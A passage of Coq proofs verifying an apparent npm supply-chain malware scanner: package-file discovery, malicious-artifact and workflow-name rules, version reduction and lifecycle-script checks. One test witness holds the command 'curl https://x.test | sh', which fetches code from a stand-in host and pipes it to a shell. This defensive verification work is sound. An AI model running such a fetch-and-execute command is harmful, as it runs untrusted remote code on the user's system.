Lemma loadContent_legacy_witness :
  loadContent ("bad-package" ++ TAB ++ "1.0.0" ++ LF ++ "pkg" ++ TAB ++ "2")
  = Legacy.loadContent
      ("bad-package" ++ TAB ++ "1.0.0" ++ LF ++ "pkg" ++ TAB ++ "2").
Proof.
  apply (loadContent_legacy
           ("bad-package" ++ TAB ++ "1.0.0" ++ LF ++ "pkg" ++ TAB ++ "2")
           eq_refl).
Defined.

(** ** What the traversals record *)

Lemma Recorded_incl (path_join : string -> string -> string)
    (currentDir : string) (entries entries' : list Dirent) (c : Candidate) :
  incl entries entries' ->
  Recorded path_join currentDir entries c ->
  Recorded path_join currentDir entries' c.
Proof.
  intros Hincl H. destruct H.
  - eapply recorded_node_modules; eauto.
  - eapply recorded_manifest; eauto.
  - eapply recorded_lockfile; eauto.
  - eapply recorded_below; eauto.
Qed.

Lemma findPackageFiles_entry_sound (path_join : string -> string -> string)
    (entry : Dirent) :
  forall currentDir c,
    In c (findPackageFiles_entry path_join currentDir entry) ->
    Recorded path_join currentDir [entry] c.
Proof.
  induction entry as [name present | name | name entries IH]
    using Dirent_forall_ind; intros currentDir c Hin.
  - cbn in Hin. destruct (String.eqb_spec name "node_modules") as [->|_].
    + destruct present; [|destruct Hin]. destruct Hin as [<-|[]].
      now apply recorded_node_modules with (entry := File "node_modules" true);
        [left| |].
    + destruct (startsWith name "." && negb (name =? ".github"));
        [destruct Hin|].
      destruct (String.eqb_spec name "package.json") as [->|_].
      * destruct Hin as [<-|[]].
        apply recorded_manifest with (present := present). now left.
      * destruct (String.eqb_spec name "package-lock.json") as [->|_];
          [|destruct Hin].
        destruct Hin as [<-|[]].
        apply recorded_lockfile with (present := present). now left.
  - cbn in Hin. destruct (String.eqb_spec name "node_modules") as [->|_].
    + destruct Hin as [<-|[]].
      now apply recorded_node_modules
        with (entry := Directory "node_modules" None); [left| |].
    + now destruct (startsWith name "." && negb (name =? ".github")).
  - cbn [findPackageFiles_entry d_name d_exists] in Hin.
    destruct (String.eqb_spec name "node_modules") as [->|Hnm].
    + destruct Hin as [<-|[]].
      now apply recorded_node_modules
        with (entry := Directory "node_modules" (Some entries)); [left| |].
    + fold (hiddenName name) in Hin.
      destruct (hiddenName name) eqn:Hhid; [destruct Hin|].
      apply in_flat_map in Hin as [e [He Hin]].
      rewrite Forall_forall in IH. specialize (IH e He _ _ Hin).
      apply recorded_below with (dir := name) (sub := entries);
        [now left | exact Hnm | exact Hhid |].
      apply Recorded_incl with (entries := [e]); [|exact IH].
      intros x [<-|[]]. exact He.
Qed.

(** X8: [findPackageFiles] records exactly the existing entries called
    [node_modules] and the files [package.json] and [package-lock.json]
    that lie at the root or below directories that can be read and are
    neither hidden (a dot name other than [.github]) nor called
    [node_modules]; an entry called [node_modules] is recorded whether it
    is a directory or not. *)
Theorem findPackageFiles_records (path_join : string -> string -> string)
    (dir : string) (root : list Dirent) (c : Candidate) :
  In c (findPackageFiles path_join dir (Some root))
  <-> Recorded path_join dir root c.
Proof.
  cbn. split.
  - intros Hin. apply in_flat_map in Hin as [e [He Hin]].
    apply Recorded_incl with (entries := [e]).
    + intros x [<-|[]]. exact He.
    + now apply findPackageFiles_entry_sound.
  - induction 1 as [currentDir entries entry Hin Hname Hex
                   | currentDir entries present Hin
                   | currentDir entries present Hin
                   | currentDir entries sub listing candidate Hin Hnm Hhid _
                       IH];
      apply in_flat_map.
    + exists entry. split; [exact Hin|].
      destruct entry; cbn in Hname, Hex |- *; subst; cbn; auto.
    + exists (File "package.json" present). split; [exact Hin | now left].
    + exists (File "package-lock.json" present). split; [exact Hin | now left].
    + exists (Directory sub (Some listing)). split; [exact Hin|].
      cbn [findPackageFiles_entry d_name].
      apply String.eqb_neq in Hnm. rewrite Hnm.
      fold (hiddenName sub). now rewrite Hhid.
Qed.

Lemma findPackageFiles_records_witness :
  In (mkCandidate package_json "/repo/packages/app/package.json")
     (findPackageFiles posix_join "/repo"
        (Some [Directory ".cache" (Some [File "package.json" true]);
               Directory "packages"
                 (Some [Directory "app"
                          (Some [File "package.json" true])])])).
Proof.
  apply (proj2 (findPackageFiles_records posix_join "/repo" _ _)).
  apply recorded_below with (dir := "packages")
    (sub := [Directory "app" (Some [File "package.json" true])]);
    [right; left; reflexivity | discriminate | reflexivity |].
  apply recorded_below with (dir := "app")
    (sub := [File "package.json" true]);
    [left; reflexivity | discriminate | reflexivity |].
  apply (recorded_manifest posix_join "/repo/packages/app" _ true).
  left. reflexivity.
Defined.

Lemma endsWith_iff (s p : string) :
  endsWith s p = true <-> exists pre, s = pre ++ p.
Proof.
  split.
  - induction s as [|a s IH]; cbn [endsWith].
    + rewrite orb_false_r. intros H. apply String.eqb_eq in H. now exists "".
    + intros H. apply orb_true_iff in H as [H|H].
      * apply String.eqb_eq in H. now exists "".
      * destruct (IH H) as [pre ->]. now exists (String a pre).
  - intros [pre ->]. induction pre as [|a pre IH].
    + cbn [append]. destruct p; cbn [endsWith]; now rewrite String.eqb_refl.
    + cbn [append endsWith]. rewrite IH. apply orb_true_r.
Qed.

Lemma testFile_pathRule (a fullPath name : string) :
  In a MALICIOUS_ARTIFACTS -> includes a "/" = true ->
  (In (mkHit a fullPath) (testFile fullPath name)
   <-> endsWith fullPath a = true).
Proof.
  intros Ha Hp. unfold testFile. rewrite in_app_iff, In_matchArtifacts. split.
  - intros [[a' [_ [E Hm]]]|H].
    + injection E as <-. now rewrite Hp in Hm.
    + apply In_matchWorkflow in H. injection H as H.
      now apply not_suspicious_workflow in Ha.
  - intros H. left. exists a. now rewrite Hp.
Qed.

(** X9: an artifact with a [/] in it, such as
    [.github/workflows/discussion.yml], hits exactly the scanned files
    whose full path ends with the artifact, whatever the name of the
    directory the scan started from. *)
Theorem path_rule_suffix_match (path_join : string -> string -> string)
    (artifact : string)
    (Hlisted : In artifact MALICIOUS_ARTIFACTS)
    (Hpath : includes artifact "/" = true)
    (dir : string) (root : list Dirent) (fullPath : string) :
  In (mkHit artifact fullPath)
     (findMaliciousArtifacts path_join dir (Some root))
  <-> (exists name, ScannedFile path_join dir root fullPath name)
      /\ exists before, fullPath = before ++ artifact.
Proof.
  rewrite <- endsWith_iff. cbn. split.
  - intros Hin. apply artifacts_scan_sound in Hin as [name [Hs Ht]].
    cbn in Hs, Ht. apply testFile_pathRule in Ht; eauto.
  - intros [[name Hs] He]. apply artifacts_scan_complete with (1 := Hs).
    now apply testFile_pathRule.
Qed.

Lemma path_rule_suffix_match_witness :
  In (mkHit ".github/workflows/discussion.yml"
        "/repo/.github/workflows/discussion.yml")
     (findMaliciousArtifacts posix_join "/repo"
        (Some [Directory ".github"
                 (Some [Directory "workflows"
                          (Some [File "discussion.yml" true])])])).
Proof.
  apply (proj2 (path_rule_suffix_match posix_join
                  ".github/workflows/discussion.yml"
                  (or_intror (or_introl eq_refl)) eq_refl "/repo" _ _)).
  split.
  - exists "discussion.yml".
    apply scanned_below with (dir := ".github")
      (sub := [Directory "workflows" (Some [File "discussion.yml" true])]);
      [left; reflexivity | discriminate |].
    apply scanned_below with (dir := "workflows")
      (sub := [File "discussion.yml" true]);
      [left; reflexivity | discriminate |].
    apply (scanned_here posix_join "/repo/.github/workflows" _
             "discussion.yml" true); [left; reflexivity | discriminate].
  - now exists "/repo/".
Defined.

Lemma testFile_workflow (fullPath name : string) :
  In (mkHit "suspicious_workflow" fullPath) (testFile fullPath name)
  <-> includes fullPath ".github/workflows/" = true
      /\ SUSPICIOUS_WORKFLOW_PATTERN_test name = true.
Proof.
  unfold testFile. rewrite in_app_iff, In_matchArtifacts. unfold matchWorkflow.
  split.
  - intros [[a [Ha [E _]]]|H].
    + injection E as <-. now apply not_suspicious_workflow in Ha.
    + destruct (includes fullPath ".github/workflows/"); [|destruct H].
      destruct (SUSPICIOUS_WORKFLOW_PATTERN_test name); [|destruct H]. auto.
  - intros [-> ->]. right. now left.
Qed.

(** X10: a [suspicious_workflow] hit is reported exactly for the scanned
    files whose full path contains [.github/workflows/] and whose name
    matches the workflow pattern; the same name elsewhere is not
    reported. *)
Theorem workflow_rule_match (path_join : string -> string -> string)
    (dir : string) (root : list Dirent) (fullPath : string) :
  In (mkHit "suspicious_workflow" fullPath)
     (findMaliciousArtifacts path_join dir (Some root))
  <-> exists name,
        ScannedFile path_join dir root fullPath name
        /\ includes fullPath ".github/workflows/" = true
        /\ SUSPICIOUS_WORKFLOW_PATTERN_test name = true.
Proof.
  cbn. split.
  - intros Hin. apply artifacts_scan_sound in Hin as [name [Hs Ht]].
    cbn in Hs, Ht. apply testFile_workflow in Ht. eauto.
  - intros [name [Hs Ht]]. apply artifacts_scan_complete with (1 := Hs).
    now apply testFile_workflow.
Qed.

Lemma workflow_rule_match_witness :
  ~ In (mkHit "suspicious_workflow" "/repo/ci/formatter_12345.yml")
       (findMaliciousArtifacts posix_join "/repo"
          (Some [Directory "ci" (Some [File "formatter_12345.yml" true])])).
Proof.
  intros H.
  apply (proj1 (workflow_rule_match posix_join "/repo" _ _)) in H.
  destruct H as [name [_ [H _]]]. discriminate H.
Defined.

(** ** The workflow pattern *)

Lemma append_assoc3 (a b c : string) : (a ++ b) ++ c = a ++ b ++ c.
Proof. induction a as [|x a IH]; cbn; [reflexivity | now rewrite IH]. Qed.

Lemma revString_acc (s acc : string) :
  revString s acc = revString s "" ++ acc.
Proof.
  revert acc. induction s as [|a s IH]; intros acc; [reflexivity|].
  cbn [revString]. rewrite (IH (String a acc)), (IH (String a "")).
  now rewrite append_assoc3.
Qed.

Lemma revString_app (a b : string) :
  revString (a ++ b) "" = revString b "" ++ revString a "".
Proof.
  induction a as [|x a IH]; cbn [append revString].
  - now rewrite append_empty_r.
  - rewrite (revString_acc (a ++ b)), (revString_acc a), IH.
    now rewrite append_assoc3.
Qed.

Lemma revString_involutive (s : string) :
  revString (revString s "") "" = s.
Proof.
  induction s as [|a s IH]; [reflexivity|].
  cbn [revString]. rewrite (revString_acc s), revString_app, IH.
  reflexivity.
Qed.

Lemma allChars_app (p : ascii -> bool) (a b : string) :
  allChars p (a ++ b) = allChars p a && allChars p b.
Proof.
  induction a as [|x a IH]; cbn; [reflexivity|].
  now rewrite IH, andb_assoc.
Qed.

Lemma allChars_rev (p : ascii -> bool) (s : string) :
  allChars p (revString s "") = allChars p s.
Proof.
  induction s as [|a s IH]; [reflexivity|].
  cbn [revString allChars]. rewrite revString_acc, allChars_app, IH.
  cbn [allChars]. rewrite andb_true_r. apply andb_comm.
Qed.

Lemma revString_nonempty (s : string) : s <> "" -> revString s "" <> "".
Proof.
  destruct s as [|a s]; [contradiction|]. intros _. cbn [revString].
  rewrite revString_acc. destruct (revString s ""); discriminate.
Qed.

Lemma startsWith_split (s p : string) :
  startsWith s p = true -> s = p ++ drop (String.length p) s.
Proof.
  revert s. induction p as [|b p IH]; intros s H; [now destruct s|].
  destruct s as [|a s]; [discriminate H|].
  rewrite startsWith_cons in H. apply andb_true_iff in H as [Hab Hp].
  apply Ascii.eqb_eq in Hab. subst. cbn. now rewrite <- (IH s Hp).
Qed.

Lemma dropDigits_split (d : string) :
  exists digits,
    d = digits ++ dropDigits d /\ allChars isDigit digits = true
    /\ (headChar isDigit d = true -> digits <> "").
Proof.
  induction d as [|a d [digits [Hd [Hall _]]]].
  - exists "". repeat split. discriminate.
  - cbn [dropDigits headChar]. destruct (isDigit a) eqn:E.
    + exists (String a digits). cbn. rewrite E, Hall, <- Hd.
      repeat split. discriminate.
    + exists "". repeat split. discriminate.
Qed.

Lemma dropDigits_app (digits rest : string) :
  allChars isDigit digits = true -> headChar isDigit rest = false ->
  dropDigits (digits ++ rest) = rest.
Proof.
  induction digits as [|a digits IH]; cbn; intros Hall Hrest.
  - destruct rest as [|b rest]; [reflexivity|]. cbn in Hrest |- *.
    now rewrite Hrest.
  - apply andb_true_iff in Hall as [Ha Hall]. rewrite Ha. now apply IH.
Qed.

Lemma workflow_test_digits (ext digits tail : string) :
  ext = "lmy." \/ ext = "lmay." ->
  digits <> "" -> allChars isDigit digits = true ->
  SUSPICIOUS_WORKFLOW_PATTERN_test
    (revString (ext ++ digits ++ "_rettamrof" ++ tail) "")
  = true.
Proof.
  intros Hext Hne Hall. unfold SUSPICIOUS_WORKFLOW_PATTERN_test.
  rewrite revString_involutive.
  assert (Hrest : match digits ++ "_rettamrof" ++ tail with
                  | String c _ =>
                      isDigit c
                      && startsWith
                           (dropDigits (digits ++ "_rettamrof" ++ tail))
                           "_rettamrof"
                  | EmptyString => false
                  end = true).
  { rewrite dropDigits_app by (exact Hall || reflexivity).
    rewrite (startsWith_app "_rettamrof").
    destruct digits as [|c t]; [contradiction|]. cbn in Hall |- *.
    apply andb_true_iff in Hall as [-> _]. reflexivity. }
  destruct Hext as [-> | ->].
  - change (startsWith ("lmy." ++ ?x) "lmay.") with false.
    change (startsWith ("lmy." ++ ?x) "lmy.") with (startsWith x "").
    rewrite startsWith_empty. cbn [drop append]. exact Hrest.
  - change (startsWith ("lmay." ++ ?x) "lmay.") with (startsWith x "").
    rewrite startsWith_empty. cbn [drop append]. exact Hrest.
Qed.

(** X11: the workflow pattern accepts exactly the names that end with
    [formatter_], one or more decimal digits and [.yml] or [.yaml];
    anything may precede [formatter_]. *)
Theorem workflow_pattern_matches (name : string) :
  SUSPICIOUS_WORKFLOW_PATTERN_test name = true
  <-> exists before digits,
        digits <> "" /\ allChars isDigit digits = true
        /\ (name = before ++ "formatter_" ++ digits ++ ".yml"
            \/ name = before ++ "formatter_" ++ digits ++ ".yaml").
Proof.
  split.
  - unfold SUSPICIOUS_WORKFLOW_PATTERN_test.
    set (r := revString name ""). intros H.
    assert (Hback : forall ext d,
              r = ext ++ d ->
              match d with
              | String c _ =>
                  isDigit c && startsWith (dropDigits d) "_rettamrof"
              | EmptyString => false
              end = true ->
              exists before digits,
                digits <> "" /\ allChars isDigit digits = true
                /\ name = before ++ "formatter_" ++ digits
                          ++ revString ext "").
    { intros ext d Hr Hd. destruct d as [|c d']; [discriminate Hd|].
      apply andb_true_iff in Hd as [Hc Hs].
      destruct (dropDigits_split (String c d')) as [ds [Hsplit [Hall Hne]]].
      apply startsWith_split in Hs. cbn [String.length drop] in Hs.
      set (q := drop 10 (dropDigits (String c d'))) in Hs.
      exists (revString q ""), (revString ds "").
      split; [apply revString_nonempty, Hne, Hc|].
      split; [now rewrite allChars_rev|].
      rewrite <- (revString_involutive name). fold r.
      rewrite Hr, Hsplit, Hs, !revString_app. cbn [revString].
      now rewrite !append_assoc3. }
    destruct (startsWith r "lmay.") eqn:E1.
    + apply startsWith_split in E1.
      destruct (Hback "lmay." _ E1 H) as [b [ds [A [B C]]]].
      exists b, ds. auto.
    + destruct (startsWith r "lmy.") eqn:E2; [|discriminate H].
      apply startsWith_split in E2.
      destruct (Hback "lmy." _ E2 H) as [b [ds [A [B C]]]].
      exists b, ds. auto.
  - intros [before [digits [Hne [Hall Hname]]]].
    assert (Hdigits : revString digits "" <> ""
                      /\ allChars isDigit (revString digits "") = true)
      by (split; [now apply revString_nonempty | now rewrite allChars_rev]).
    destruct Hdigits as [Hne' Hall'].
    destruct Hname as [-> | ->].
    + replace (before ++ "formatter_" ++ digits ++ ".yml")
        with (revString ("lmy." ++ revString digits "" ++ "_rettamrof"
                         ++ revString before "") "").
      * apply workflow_test_digits; auto.
      * rewrite !revString_app, !revString_involutive.
        cbn [revString]. now rewrite !append_assoc3.
    + replace (before ++ "formatter_" ++ digits ++ ".yaml")
        with (revString ("lmay." ++ revString digits "" ++ "_rettamrof"
                         ++ revString before "") "").
      * apply workflow_test_digits; auto.
      * rewrite !revString_app, !revString_involutive.
        cbn [revString]. now rewrite !append_assoc3.
Qed.

Lemma workflow_pattern_matches_witness :
  SUSPICIOUS_WORKFLOW_PATTERN_test "old-formatter_007.yaml" = true.
Proof.
  apply (proj2 (workflow_pattern_matches "old-formatter_007.yaml")).
  exists "old-", "007". split; [discriminate|]. split; [reflexivity|].
  right. reflexivity.
Defined.

(** ** Version specifiers *)

Lemma firstTokenBy_lacks (c : ascii) (s : string) :
  lacks c (firstTokenBy (Ascii.eqb c) s) = true.
Proof.
  induction s as [|a s IH]; [reflexivity|]. cbn [firstTokenBy].
  destruct (Ascii.eqb c a) eqn:E; [reflexivity|].
  unfold lacks in *. cbn [allChars]. rewrite Ascii.eqb_sym, E. exact IH.
Qed.

Lemma firstTokenBy_whole (c : ascii) (s : string) :
  lacks c s = true -> firstTokenBy (Ascii.eqb c) s = s.
Proof.
  induction s as [|a s IH]; intros H; [reflexivity|].
  apply lacks_cons in H as [Ha Hs]. cbn [firstTokenBy].
  rewrite Ascii.eqb_sym, Ha. now rewrite IH.
Qed.

(** X12: the reduced version never contains a space and never begins
    with a range operator, and a specifier is left as it is exactly when
    it already is of that form: an exact version, a tag such as [latest]
    or a URL is compared with the database unchanged. *)
Theorem extractVersion_fixed_points (versionSpec : string) :
  lacks " " (extractVersion versionSpec) = true
  /\ headChar isRangeOperator (extractVersion versionSpec) = false
  /\ (extractVersion versionSpec = versionSpec
      <-> headChar isRangeOperator versionSpec = false
          /\ lacks " " versionSpec = true).
Proof.
  rewrite extractVersion_firstToken.
  assert (H1 : lacks " "
                 (firstTokenBy (Ascii.eqb " ")
                    (stripLeadingOperators versionSpec)) = true)
    by apply firstTokenBy_lacks.
  assert (H2 : headChar isRangeOperator
                 (firstTokenBy (Ascii.eqb " ")
                    (stripLeadingOperators versionSpec)) = false)
    by apply firstTokenBy_head, stripLeadingOperators_head.
  split; [exact H1|]. split; [exact H2|]. split.
  - intros E. rewrite E in H1, H2. now split.
  - intros [Hh Hs]. rewrite stripLeadingOperators_fixed by exact Hh.
    now apply firstTokenBy_whole.
Qed.

Lemma extractVersion_fixed_points_witness :
  extractVersion "latest" = "latest".
Proof.
  apply (proj2 (proj2 (proj2 (extractVersion_fixed_points "latest")))).
  split; reflexivity.
Defined.

(** ** Findings of a manifest *)

Lemma checkScript_exact (filePath : string) (scripts : value) (name : string)
    (acc out : list Finding) :
  checkScript filePath scripts name acc = Ok out ->
  out = (acc ++ scriptFindings filePath scripts name)%list.
Proof.
  unfold checkScript, scriptFindings.
  destruct (getProp scripts name) as [[scriptContent|]|]; cbn [bind];
    [| intros [= <-]; now rewrite app_nil_r | discriminate].
  destruct (truthy (Some scriptContent)); cbn [negb];
    [| intros [= <-]; now rewrite app_nil_r].
  destruct (isSuspicious scriptContent) as [[|]|]; cbn [bind];
    [| intros [= <-]; now rewrite app_nil_r | discriminate].
  now intros [= <-].
Qed.

(** The findings of a call of [checkPackageJson] that returns. *)
Lemma checkPackageJson_exact
    (readFileSync : string -> result string)
    (JSON_parse : string -> result json)
    (filePath : string) (infectedPackages : IOCDatabase) (options : Options)
    (parsed : json) (findings : list Finding) :
  readJson readFileSync JSON_parse filePath = Ok parsed ->
  checkPackageJson readFileSync JSON_parse filePath infectedPackages options
  = Ok findings ->
  exists scripts,
    getProp (Some parsed) "scripts" = Ok scripts
    /\ findings
       = (flat_map (sectionFindings filePath infectedPackages parsed)
            DEPENDENCY_TYPES
          ++ if truthy scripts
             then flat_map (scriptFindings filePath scripts)
                    SUSPICIOUS_SCRIPTS
             else [])%list.
Proof.
  intros Hparsed. unfold checkPackageJson. rewrite Hparsed.
  destruct (forEach DEPENDENCY_TYPES
              (checkDependencyType filePath infectedPackages parsed) [])
    as [deps|] eqn:Hdeps; cbn [bind]; [|discriminate].
  apply (forEach_appends (sectionFindings filePath infectedPackages parsed))
    in Hdeps; [|intros x a o; apply checkDependencyType_ok].
  change (deps = flat_map (sectionFindings filePath infectedPackages parsed)
                   DEPENDENCY_TYPES) in Hdeps.
  subst deps.
  destruct (getProp (Some parsed) "scripts") as [scripts|]; cbn [bind];
    [|discriminate].
  intros H. exists scripts. split; [reflexivity|].
  destruct (truthy scripts).
  - apply (forEach_appends (scriptFindings filePath scripts)) in H;
      [exact H|]. intros x a o. apply checkScript_exact.
  - injection H as <-. symmetry. apply app_nil_r.
Qed.

Lemma scriptFindings_fields (filePath : string) (scripts : value)
    (name : string) (f : Finding) :
  In f (scriptFindings filePath scripts name) ->
  exists scriptContent,
    f = suspiciousScript name scriptContent filePath
    /\ getProp scripts name = Ok (Some scriptContent)
    /\ truthy (Some scriptContent) = true
    /\ isSuspicious scriptContent = Ok true.
Proof.
  unfold scriptFindings.
  destruct (getProp scripts name) as [[scriptContent|]|]; try (now intros []).
  destruct (truthy (Some scriptContent)) eqn:T; [|now intros []].
  destruct (isSuspicious scriptContent) as [[|]|] eqn:E; try (now intros []).
  intros [<-|[]]. exists scriptContent. repeat split; assumption.
Qed.

(** X13: a call of [checkPackageJson] that returns yields no false
    positive.  Each finding is for a pair [(pkg, spec)] that
    [Object.entries] lists in one of the four dependency sections of the
    parsed manifest, with [pkg] in the database: an [INFECTED_PACKAGE]
    (critical) when the reduced version is in the infected set of the
    package and a [KNOWN_TARGET] (warning) carrying that whole set when
    it is not; or it is a [SUSPICIOUS_SCRIPT] (warning) for one of the
    three lifecycle names, carrying the value that the [scripts] of the
    manifest holds under that name, which contains a listed pattern. *)
Theorem checkPackageJson_sound
    (readFileSync : string -> result string)
    (JSON_parse : string -> result json)
    (filePath : string) (infectedPackages : IOCDatabase) (options : Options)
    (parsed : json) (findings : list Finding)
    (Hparsed : readJson readFileSync JSON_parse filePath = Ok parsed)
    (Hreturns :
       checkPackageJson readFileSync JSON_parse filePath infectedPackages
         options = Ok findings)
    (f : Finding) (Hin : In f findings) :
  (exists dep section declared pkg spec versions,
      In dep DEPENDENCY_TYPES
      /\ getProp (Some parsed) dep = Ok section
      /\ truthy section = true
      /\ Object_entries section = Ok declared
      /\ In (pkg, JString spec) declared
      /\ Map_get infectedPackages pkg = Some versions
      /\ ((Set_has versions (extractVersion spec) = true
           /\ f = infectedPackage pkg (extractVersion spec) (JString spec)
                    dep filePath)
          \/ (Set_has versions (extractVersion spec) = false
              /\ f = knownTarget pkg (extractVersion spec) (JString spec)
                       versions dep filePath)))
  \/ (exists scripts name scriptContent,
        getProp (Some parsed) "scripts" = Ok scripts
        /\ truthy scripts = true
        /\ In name SUSPICIOUS_SCRIPTS
        /\ getProp scripts name = Ok (Some scriptContent)
        /\ truthy (Some scriptContent) = true
        /\ isSuspicious scriptContent = Ok true
        /\ f = suspiciousScript name scriptContent filePath).
Proof.
  destruct (checkPackageJson_exact _ _ _ _ _ _ _ Hparsed Hreturns)
    as [scripts [Hscripts ->]].
  apply in_app_or in Hin as [Hin|Hin].
  - left. apply in_flat_map in Hin as [dep [Hdep Hin]].
    unfold sectionFindings in Hin.
    destruct (getProp (Some parsed) dep) as [section|] eqn:Hsection;
      [|destruct Hin].
    destruct (truthy section) eqn:Htruthy; [|destruct Hin].
    destruct (Object_entries section) as [declared|] eqn:Hdeclared;
      [|destruct Hin].
    apply in_flat_map in Hin as [[pkg versionSpec] [Hpair Hin]].
    unfold dependencyFindings in Hin. cbn [fst snd] in Hin.
    destruct (Map_get infectedPackages pkg) as [versions|] eqn:Hget;
      [|destruct Hin].
    destruct versionSpec as [| | |spec| |]; try (now destruct Hin).
    destruct Hin as [<-|[]].
    exists dep, section, declared, pkg, spec, versions.
    split; [exact Hdep|]. split; [exact Hsection|].
    split; [exact Htruthy|]. split; [exact Hdeclared|].
    split; [exact Hpair|]. split; [exact Hget|].
    destruct (Set_has versions (extractVersion spec)); auto.
  - right. destruct (truthy scripts) eqn:Htruthy; [|destruct Hin].
    apply in_flat_map in Hin as [name [Hname Hin]].
    apply scriptFindings_fields
      in Hin as [scriptContent [-> [Hbody [Hcontent Hsuspicious]]]].
    exists scripts, name, scriptContent. repeat split; assumption.
Qed.

Lemma checkPackageJson_sound_witness :
  exists dep section declared pkg spec versions,
    In dep DEPENDENCY_TYPES
    /\ getProp
         (Some (JObject
                  [("devDependencies",
                    JObject [("left-pad", JString "1.3.0");
                             ("evil", JString "^6.6.6")])]))
         dep = Ok section
    /\ truthy section = true
    /\ Object_entries section = Ok declared
    /\ In (pkg, JString spec) declared
    /\ Map_get [("evil", ["6.6.6"])] pkg = Some versions
    /\ ((Set_has versions (extractVersion spec) = true
         /\ infectedPackage "evil" "6.6.6" (JString "^6.6.6")
              "devDependencies" "/repo/package.json"
            = infectedPackage pkg (extractVersion spec) (JString spec) dep
                "/repo/package.json")
        \/ (Set_has versions (extractVersion spec) = false
            /\ infectedPackage "evil" "6.6.6" (JString "^6.6.6")
                 "devDependencies" "/repo/package.json"
               = knownTarget pkg (extractVersion spec) (JString spec)
                   versions dep "/repo/package.json")).
Proof.
  destruct (checkPackageJson_sound
              (fun _ => Ok "{ ... }")
              (fun _ =>
                 Ok (JObject
                       [("devDependencies",
                         JObject [("left-pad", JString "1.3.0");
                                  ("evil", JString "^6.6.6")])]))
              "/repo/package.json" [("evil", ["6.6.6"])] (mkOptions false)
              _ _ eq_refl eq_refl
              (infectedPackage "evil" "6.6.6" (JString "^6.6.6")
                 "devDependencies" "/repo/package.json")
              (or_introl eq_refl))
    as [H | [scripts [name [body [_ [_ [_ [_ [_ [_ H]]]]]]]]]].
  - exact H.
  - discriminate H.
Defined.

Lemma suspicious_text_nonempty (text : string) :
  existsb (includes text) SUSPICIOUS_SCRIPT_PATTERNS = true -> text <> "".
Proof. intros H ->. discriminate H. Qed.

(** X14: for a manifest whose [scripts] is an object, a lifecycle script
    held as a string is reported exactly when its name is [preinstall],
    [postinstall] or [prepare] and its text contains one of the listed
    patterns; the finding carries the whole text.  A script of any other
    name, [install] for one, is never reported. *)
Theorem checkPackageJson_script_rule
    (readFileSync : string -> result string)
    (JSON_parse : string -> result json)
    (filePath : string) (infectedPackages : IOCDatabase) (options : Options)
    (props scripts : list (string * json)) (findings : list Finding)
    (Hparsed :
       readJson readFileSync JSON_parse filePath = Ok (JObject props))
    (Hscripts : lookup props "scripts" = Some (JObject scripts))
    (Hreturns :
       checkPackageJson readFileSync JSON_parse filePath infectedPackages
         options = Ok findings)
    (name text : string)
    (Htext : lookup scripts name = Some (JString text)) :
  In (suspiciousScript name (JString text) filePath) findings
  <-> In name SUSPICIOUS_SCRIPTS
      /\ existsb (includes text) SUSPICIOUS_SCRIPT_PATTERNS = true.
Proof.
  destruct (checkPackageJson_exact _ _ _ _ _ _ _ Hparsed Hreturns)
    as [found [Hfound ->]].
  cbn [getProp] in Hfound. rewrite Hscripts in Hfound.
  injection Hfound as <-. cbn [truthy].
  assert (Hone : scriptFindings filePath (Some (JObject scripts)) name
                 = if existsb (includes text) SUSPICIOUS_SCRIPT_PATTERNS
                   then [suspiciousScript name (JString text) filePath]
                   else []).
  { unfold scriptFindings. cbn [getProp]. rewrite Htext.
    cbn [truthy isSuspicious].
    destruct (existsb (includes text) SUSPICIOUS_SCRIPT_PATTERNS) eqn:E.
    - apply suspicious_text_nonempty in E.
      destruct text; [congruence|reflexivity].
    - now destruct (negb (isEmpty text)). }
  split.
  - intros Hin. apply in_app_or in Hin as [Hin|Hin].
    + exfalso. apply in_flat_map in Hin as [dep [_ Hin]].
      apply sectionFindings_fields in Hin as [Hdep _]. discriminate Hdep.
    + apply in_flat_map in Hin as [other [Hother Hin]].
      apply scriptFindings_fields
        in Hin as [scriptContent [Heq [_ [_ Hsusp]]]].
      unfold suspiciousScript in Heq.
      injection Heq as Hname Hcontent. subst other scriptContent.
      split; [exact Hother|]. now injection Hsusp.
  - intros [Hname Hsusp]. apply in_or_app. right. apply in_flat_map.
    exists name. split; [exact Hname|]. rewrite Hone, Hsusp. now left.
Qed.

Lemma checkPackageJson_script_rule_witness :
  ~ In (suspiciousScript "install" (JString "curl https://x.test | sh")
          "/repo/package.json")
      [].
Proof.
  intros H.
  apply (checkPackageJson_script_rule
           (fun _ => Ok "{ ... }")
           (fun _ =>
              Ok (JObject
                    [("scripts",
                      JObject [("install",
                                JString "curl https://x.test | sh")])]))
           "/repo/package.json" [] (mkOptions false)
           [("scripts",
             JObject [("install", JString "curl https://x.test | sh")])]
           [("install", JString "curl https://x.test | sh")] []
           eq_refl eq_refl eq_refl "install" "curl https://x.test | sh"
           eq_refl) in H.
  destruct H as [[H|[H|[H|[]]]] _]; discriminate H.
Defined.

(** ** Lockfiles *)

Lemma bind_ret {A : Type} (r : result A) : bind r (fun x => Ok x) = r.
Proof. now destruct r. Qed.

Lemma checkLocked_exact (filePath : string) (infectedPackages : IOCDatabase)
    (name : string) (info : json) (acc out : list Finding) :
  checkLocked filePath infectedPackages name info acc = Ok out ->
  out = (acc ++ lockedFindings filePath infectedPackages name info)%list.
Proof.
  unfold checkLocked, lockedFindings, Map_has, getVersions.
  destruct (Map_get infectedPackages name) as [versions|];
    [|intros [= <-]; now rewrite app_nil_r].
  destruct info as [| | | | |props]; cbn [getProp bind truthy];
    try discriminate; try (intros [= <-]; now rewrite app_nil_r).
  destruct (lookup props "version") as [[| | |v| |]|]; cbn [truthy bind];
    repeat match goal with
           | |- context [if ?b then _ else _] => destruct b; cbn [bind andb]
           end;
    intros [= <-]; rewrite ?app_nil_r; reflexivity.
Qed.

(** [checkDependenciesV1] is a loop of [v1Step] over the entries of
    [deps]. *)
Lemma nested_unfold (filePath : string) (infectedPackages : IOCDatabase)
    (findings : list Finding) (props : list (string * json)) :
  (fix nested (ps : list (string * json)) : result (list Finding) :=
     match ps with
     | [] => Ok findings
     | (k, v) :: rest =>
         if String.eqb k "dependencies" then
           if truthy (Some v)
           then checkDependenciesV1 v filePath infectedPackages findings
           else Ok findings
         else nested rest
     end) props
  = (nested <- nestedDependencies (JObject props) ;;
     match nested with
     | Some d => checkDependenciesV1 d filePath infectedPackages findings
     | None => Ok findings
     end).
Proof.
  induction props as [|[k v] rest IH]; [reflexivity|].
  rewrite IH. unfold nestedDependencies. cbn [lookup].
  destruct (String.eqb k "dependencies"); [|reflexivity].
